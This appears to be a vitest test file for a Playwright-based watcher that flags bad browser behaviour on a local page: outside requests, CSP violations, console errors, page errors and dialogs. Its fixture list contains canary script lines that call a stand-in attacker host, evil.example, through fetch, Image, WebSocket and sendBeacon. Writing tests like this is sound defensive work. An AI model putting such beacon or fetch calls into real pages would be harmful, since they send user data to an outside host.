import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findChromium } from '../support/console/find-chromium.ts';
import { openBrowser } from '../support/console/open-browser.ts';
import { watchContext } from '../support/console/watch.ts';

/** What a page does, and how the watch must call it. */
const TROUBLES: readonly (readonly [kind: string, script: string, policy: string])[] = [
  ['outside', `fetch('http://evil.example/x').catch(() => {})`, ''],
  ['outside', `new Image().src = 'http://evil.example/x.png'`, ''],
  ['outside', `new WebSocket('ws://evil.example/')`, ''],
  ['outside', `navigator.sendBeacon('http://evil.example/b', 'x')`, ''],
  [
    'outside',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: 'data:text/html,x' }))`,
    '',
  ],
  ['csp', `fetch('http://evil.example/x').catch(() => {})`, "connect-src 'self'"],
  ['csp', `document.body.setAttribute('style', 'color: red')`, "style-src 'self'"],
  ['console', `console.error('canary')`, ''],
  ['console', `fetch('/absent')`, ''],
  ['page-error', `setTimeout(() => { throw new Error('canary'); })`, ''],
  ['page-error', `Promise.reject(new Error('canary'))`, ''],
  ['dialog', `setTimeout(() => alert('canary'))`, ''],
];

describe('the watch on the browser [F4] [B10]', () => {
  let browser: Browser;
  let server: Server;
  let origin = '';
  let policy = '';
  beforeAll(async () => {
    browser = await openBrowser();
    server = createServer((request, response) => {
      if (request.url !== '/') return void response.writeHead(404).end();
      if (policy !== '') response.setHeader('Content-Security-Policy', policy);
      response.setHeader('Content-Type', 'text/html');
      response.end('<link rel="icon" href="/"><body>A page</body>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await browser?.close();
    server?.close();
  });

  it.each(TROUBLES)('notices %s: %s %s', async (kind, script, under) => {
    policy = under;
    const context = await browser.newContext();
    const watch = await watchContext(context, origin);
    const page = await context.newPage();
    await page.goto(origin);
    expect(watch.unexpected()).toEqual([]);
    await page.evaluate(`void (() => { ${script} })()`);
    await expect
      .poll(() => watch.unexpected().map((trouble) => trouble.kind), { timeout: 10_000 })
      .toContain(kind);
    watch.expect(/./s);
    expect(watch.unexpected()).toEqual([]);
    await context.close();
  });

  it.each([
    [{ CHROMIUM_PATH: '/absent/chromium' }, 'CHROMIUM_PATH names /absent/chromium'],
    [{ PATH: '/absent' }, 'apt-get install chromium'],
  ])('says what to do where there is no browser: %j', (env, remedy) => {
    expect(() => findChromium(env)).toThrow(remedy);
  });
});
